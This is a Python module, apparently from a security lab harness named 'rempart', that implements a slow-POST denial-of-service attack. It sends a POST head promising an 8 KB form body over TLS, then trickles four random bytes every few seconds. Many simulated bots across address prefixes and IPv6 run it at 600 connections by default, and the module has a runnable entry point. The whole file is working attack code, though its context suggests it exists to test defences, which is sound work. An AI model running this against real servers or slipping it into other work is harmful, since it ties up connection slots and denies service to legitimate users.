"""Slow POST: a whole head that promises a body, and a body that comes by a few octets at a time. What is
refused for its head alone is not refused here."""

from __future__ import annotations

import random

from pydantic import Field

from rempart.lab.attacks.contract import Attack, Order, Sources, Unit
from rempart.lab.attacks.dialling import Dialler, DialParameters, Manner, request_head
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender
from rempart.lab.clients.connecting import careless_tls

BEGINNING = b"text="


class SlowPost(DialParameters):
    """How slow, and how much is promised."""

    turn_s: float = Field(default=3.0, gt=0)
    """From one piece of the body to the next, on average."""
    octets: int = Field(default=4, ge=1, le=1_024)
    """In each piece."""
    promised: int = Field(default=8_192, ge=1_024)
    """What the head says is the body's length."""


SLOW_POST = Attack(
    name="slow-post",
    unit=Unit.CONNECTIONS,
    summary="forms sent over TLS a few octets every few seconds",
    defaults=SlowPost(rate=600, sources=Sources.PREFIXES, v6_share=0.2),
    sender=lambda order: own_sender(order, "slow_post"),
)


def manner(order: Order, parameters: SlowPost) -> Manner:
    """What the bots do."""

    def first(chosen: random.Random) -> bytes:
        head = request_head(
            order,
            chosen,
            "POST",
            order.target.form_page,
            "Content-Type: application/x-www-form-urlencoded",
            f"Content-Length: {parameters.promised}",
        )
        return head + b"\r\n" + BEGINNING

    def more(chosen: random.Random) -> bytes:
        return bytes(chosen.choices(b"abcdefghijklmnopqrstuvwxyz", k=parameters.octets))

    return Manner(context=careless_tls("http/1.1"), first=first, more=more, turn_s=parameters.turn_s)


def carry_out(order: Order, tally: Tally) -> None:
    parameters = SlowPost.model_validate(order.parameters)
    Dialler(order, parameters, manner(order, parameters), tally).run()


if __name__ == "__main__":
    run_sender(carry_out)
